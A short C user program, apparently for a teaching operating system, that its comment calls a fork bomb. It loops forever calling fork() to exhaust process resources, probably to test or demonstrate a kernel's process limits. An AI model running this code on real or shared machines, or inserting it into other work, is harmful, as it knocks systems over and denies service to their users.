/* A fork bomb that nothing in the machine ends. */

#include "user.h"

int main(void) {
    for (;;)
        fork();
}
